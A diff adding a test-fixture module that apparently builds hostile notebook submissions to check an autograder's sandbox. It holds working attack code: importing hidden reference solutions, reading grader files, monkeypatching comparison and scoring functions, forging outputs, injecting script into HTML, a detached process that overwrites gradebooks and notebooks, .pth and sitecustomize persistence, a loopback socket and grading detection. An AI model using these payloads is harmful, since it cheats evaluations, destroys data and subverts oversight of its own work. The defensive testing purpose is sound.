@@ -1,0 +1,238 @@
+"""A hostile corpus: notebooks that try to get points without solving anything.
+
+Every submission is the untouched student release (every stub still ``raise
+NotImplementedError()``) with one attack added at the end of the first solution cell.
+Each attack is one class of the threat model (the student has read every file of the course,
+the grader included) and would have earned points if grading ran next to the student's code:
+
+====================  ==========================================================================
+class                 what the notebook does
+====================  ==========================================================================
+``import_reference``  ``from solutions.reference import *``, or loads ``reference.py`` by the path
+                      the editable install records, and uses it as its answers
+``read_grader``       reads the source notebook, the gradebook and the hidden checks by path and
+                      execs the solution cells it finds
+``patch_grader``      replaces the grader's entry points, the probe runner and the comparison
+                      functions in memory, and writes "passing" records itself
+``forge_outputs``     makes IPython show ``14.0`` for every float, displays fake scores, puts a
+                      script into an HTML output
+``outlive``           starts a detached process that waits for grading to end and then rewrites
+                      gradebooks, notebooks and a marker file
+``write_environment`` drops a ``.pth`` and ``sitecustomize.py`` into the Python environment and
+                      appends to the checkout's grader and ``course_lib``
+``network``           connects to a server on the grading machine's loopback
+``detect_grading``    recognises the grading environment and only then defines its "answers"
+``peek_frames``       searches the garbage collector and the callers' frames for expected values
+====================  ==========================================================================
+
+``{token}``, ``{marker}`` and ``{port}`` are filled in by the test (a unique process name, a
+file outside the sandbox, the port of a server on the host).
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import nbformat
+from nbformat import NotebookNode
+
+__all__ = ["ATTACKS", "PERSISTENT", "hostile_submission"]
+
+RELEASE = Path(__file__).resolve().parents[2] / "notebooks" / "a2c.ipynb"
+
+# Paths of the instructor's checkout, as a student who read the install would find them.
+_FIND_CHECKOUT = r'''
+import importlib, os, pathlib, sys
+def _checkouts():
+    found = {pathlib.Path.cwd(), *pathlib.Path.cwd().parents}
+    for finder in sys.meta_path:
+        for path in getattr(importlib.import_module(finder.__module__), "MAPPING", {}).values():
+            found.add(pathlib.Path(path).parent)
+    for entry in sys.path:
+        found.add(pathlib.Path(entry).parent)
+    found |= {pathlib.Path(p) for p in ("/work/main", "/root", "/home", os.path.expanduser("~"))}
+    return [p for p in found if (p / "solutions").is_dir() or (p / "autograder").is_dir()]
+'''
+
+ATTACKS = {
+    "import_reference": _FIND_CHECKOUT
+    + r'''
+try:
+    from solutions.reference import *  # noqa: F403
+    print("imported the reference")
+except Exception as error:
+    print("import blocked:", type(error).__name__)
+for _root in _checkouts():
+    _file = _root / "solutions" / "reference.py"
+    if _file.is_file():
+        exec(compile(_file.read_text(), str(_file), "exec"))
+        print("executed", _file)
+''',
+    "read_grader": _FIND_CHECKOUT
+    + r'''
+import glob, json
+_paths = []
+for _root in _checkouts():
+    _paths += glob.glob(str(_root / "solutions" / "a2c.ipynb"))
+    _paths += glob.glob(str(_root / "autograder" / "checks" / "*.py"))
+for _pattern in ("/**/gradebook.db", "/tmp/**/a2c.ipynb"):
+    _paths += glob.glob(_pattern, recursive=True)[:20]
+for _path in _paths:
+    try:
+        _text = open(_path, encoding="utf-8", errors="replace").read()
+        print("read", _path, len(_text))
+        if _path.endswith(".ipynb"):
+            for _cell in json.loads(_text)["cells"]:
+                if "### BEGIN SOLUTION" in "".join(_cell["source"]):
+                    exec("".join(_cell["source"]))
+    except Exception as error:
+        print("blocked", _path, type(error).__name__)
+''',
+    "patch_grader": r'''
+import glob, json, os, sys, types
+import numpy as _np, torch as _torch
+_np.allclose = lambda *a, **k: True
+_np.testing.assert_allclose = lambda *a, **k: None
+_torch.allclose = lambda *a, **k: True
+_torch.testing.assert_close = lambda *a, **k: None
+_fake = types.ModuleType("autograder.hidden")
+_fake.grade_part = lambda *a, **k: 99.0
+sys.modules["autograder"] = types.ModuleType("autograder")
+sys.modules["autograder.hidden"] = _fake
+import course_lib.checks.harness as _harness
+import course_lib.checks.probes as _probes
+_forged = {"ok": True, "passed": True, "score": 99.0, "observation": {}}
+_harness.guarded = lambda function, seconds: dict(_forged)
+_probes.run_probe = lambda *a, **k: {}
+def _record_part(part, candidate, plan_file, out_dir):
+    from course_lib.checks.record import dumps, loads
+    plan = loads(open(plan_file).read())
+    os.makedirs(out_dir, exist_ok=True)
+    for step in plan["parts"].get(part, []):
+        with open(os.path.join(out_dir, f"{part}.{step['key']}.json"), "w") as out:
+            out.write(dumps({**_forged, "observation": {"passed": True, "score": 99.0}}))
+_harness.record_part = _record_part
+''',
+    "forge_outputs": r'''
+from IPython import get_ipython
+from IPython.display import HTML, display
+_ip = get_ipython()
+_ip.display_formatter.formatters["text/plain"].for_type(float, lambda x, p, cycle: p.text("14.0"))
+_ip.display_formatter.formatters["text/plain"].for_type(type(None), lambda x, p, cycle: p.text("14.0"))
+def _forge(*args, **kwargs):
+    display({"text/plain": "14.0"}, raw=True)
+    print("Part 'model' (make_model): 1 / 1 points")
+_ip.events.register("post_run_cell", lambda result: _forge())
+display(HTML("<script>document.title = 'FORGED-SCRIPT'; alert('FORGED-SCRIPT')</script>"))
+''',
+    "outlive": r'''
+import os, subprocess, sys, textwrap
+_script = textwrap.dedent("""
+    import glob, os, sys, time
+    time.sleep(6)
+    for path in glob.glob("/**/gradebook.db", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
+        try:
+            open(path, "w").write("rewritten after grading")
+        except OSError:
+            pass
+    open("{marker}", "w").write("outlived grading")
+    time.sleep(60)
+""")
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", _script, "{token}"])
+    os._exit(0)
+subprocess.Popen([sys.executable, "-c", _script, "{token}"], start_new_session=True)
+''',
+    "write_environment": _FIND_CHECKOUT
+    + r'''
+import site, sys
+_payload = "import sys; sys.stderr.write('{token}')\n"
+for _dir in {*site.getsitepackages(), *sys.path}:
+    for _name, _text in (("zz_{token}.pth", _payload), ("sitecustomize.py", "# {token}\n")):
+        try:
+            with open(os.path.join(_dir, _name), "a") as _out:
+                _out.write(_text)
+            print("wrote", _dir, _name)
+        except OSError as error:
+            print("blocked", _dir, type(error).__name__)
+for _root in _checkouts():
+    for _rel in ("autograder/hidden.py", "autograder/checks/model.py", "course_lib/__init__.py"):
+        try:
+            with open(_root / _rel, "a") as _out:
+                _out.write("\n# {token}\n")
+        except OSError as error:
+            print("blocked", _rel, type(error).__name__)
+import course_lib
+try:
+    with open(os.path.join(os.path.dirname(course_lib.__file__), "__init__.py"), "a") as _out:
+        _out.write("# {token}\n")
+except OSError as error:
+    print("blocked course_lib", type(error).__name__)
+''',
+    "network": r'''
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as _conn:
+        _conn.sendall(b"{token}")
+        print("connected")
+except OSError as error:
+    print("network blocked:", error)
+''',
+    "detect_grading": r'''
+import os, socket
+_signs = [os.environ.get("NBGRADER_EXECUTION"), os.environ.get("A2C_KIT_QUICK"), socket.gethostname()]
+if any(_signs):
+    print("grading detected:", _signs)
+    def make_model(n_actions):  # "answers" that only exist under grading
+        return None
+    class Policy:
+        def __init__(self, model):
+            pass
+        def act(self, inputs):
+            return {"actions": 0}
+''',
+    "peek_frames": r'''
+import gc, sys
+def _loot():
+    found = {}
+    for _obj in gc.get_objects():
+        if isinstance(_obj, dict):
+            for _key in ("expected", "want", "reference", "make_model", "Policy"):
+                if _key in _obj and _obj[_key] is not None and _key not in found:
+                    found[_key] = _obj[_key]
+    _frame = sys._getframe()
+    while _frame is not None:
+        for _key, _value in _frame.f_locals.items():
+            if _key in ("expected", "want", "reference"):
+                found[_key] = _value
+        _frame = _frame.f_back
+    return found
+def make_model(n_actions):
+    loot = _loot()
+    reference = loot.get("reference")
+    if reference is not None and hasattr(reference, "make_model"):
+        return reference.make_model(n_actions)
+    raise NotImplementedError()
+''',
+}
+
+#: Attacks meant to change what happens after their own grading.
+PERSISTENT = ("outlive", "write_environment")
+
+
+def hostile_submission(attack: str, **fill: str) -> NotebookNode:
+    """The untouched release with ``ATTACKS[attack]`` (its ``{...}`` fields filled in)."""
+    code = ATTACKS[attack]
+    for name, value in fill.items():
+        code = code.replace("{" + name + "}", str(value))
+    nb = nbformat.read(RELEASE, as_version=4)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "model":
+            cell.source = cell.source + "\n\n" + code
+            break
+    else:  # pragma: no cover - the release always has the model cell
+        raise ValueError("no model cell in the release")
+    return nbformat.from_dict(json.loads(json.dumps(nb)))
